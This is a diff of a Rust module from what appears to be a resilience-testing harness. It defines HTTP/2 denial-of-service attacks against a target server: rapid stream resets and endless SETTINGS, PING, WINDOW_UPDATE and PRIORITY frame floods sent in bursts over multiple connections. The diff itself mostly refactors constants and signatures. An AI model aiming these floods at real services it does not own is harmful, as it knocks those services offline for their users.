@@ -1,7 +1,5 @@
 //! Frames without end, and answers that nobody reads.
 
-use std::time::Duration;
-
 use tokio::io::AsyncWriteExt;
 
 use crate::hpack::{self, Call};
@@ -13,37 +11,36 @@ use crate::http2::{
 use crate::target::{Attackers, Target, attackers, connect_with_small_buffer};
 use crate::trial::Attack;
 
-const DURATION: Duration = Duration::from_secs(6);
+const SECONDS: u64 = 5;
 /// Frames that are sent at a time.
 const BURST: usize = 1_000;
 const CANCEL: [u8; 4] = 8_u32.to_be_bytes();
 
 pub(super) fn attacks() -> Vec<Attack> {
-    let attack =
-        |name, what, start| Attack { name, what, duration: DURATION, is_calm: false, start };
+    let attack = |name, what, start| Attack::busy(name, what, SECONDS, start);
     vec![
         attack("flood-reset/8", "8 connections, requests that are reset at once", |t| {
             reset_rapidly(t, 8)
         }),
         attack("flood-settings/8", "8 connections, SETTINGS without end, answers not read", |t| {
-            flood(t, 8, http2::frame(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0]), Reading::Nothing)
+            flood(t, 8, &http2::frame(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0]), Reading::Nothing)
         }),
         attack("flood-ping/8", "8 connections, PING without end, answers not read", |t| {
-            flood(t, 8, http2::frame(PING, 0, 0, &[7; 8]), Reading::Nothing)
+            flood(t, 8, &http2::frame(PING, 0, 0, &[7; 8]), Reading::Nothing)
         }),
         attack("flood-ping-read/8", "8 connections, PING without end, answers read", |t| {
-            flood(t, 8, http2::frame(PING, 0, 0, &[7; 8]), Reading::Everything)
+            flood(t, 8, &http2::frame(PING, 0, 0, &[7; 8]), Reading::Everything)
         }),
         attack("flood-window/8", "8 connections, WINDOW_UPDATE without end", |t| {
             flood(
                 t,
                 8,
-                http2::frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()),
+                &http2::frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()),
                 Reading::Everything,
             )
         }),
         attack("flood-priority/8", "8 connections, PRIORITY without end", |t| {
-            flood(t, 8, http2::frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 7]), Reading::Everything)
+            flood(t, 8, &http2::frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 7]), Reading::Everything)
         }),
         attack(
             "unread-http2/64",
@@ -56,7 +53,7 @@ pub(super) fn attacks() -> Vec<Attack> {
     ]
 }
 
-fn flood(target: &Target, connections: usize, frame: Vec<u8>, reading: Reading) -> Attackers {
+fn flood(target: &Target, connections: usize, frame: &[u8], reading: Reading) -> Attackers {
     let (target, burst) = (target.clone(), frame.repeat(BURST));
     attackers(connections, move |number| {
         let (address, burst) = (target.otlp(number), burst.clone());
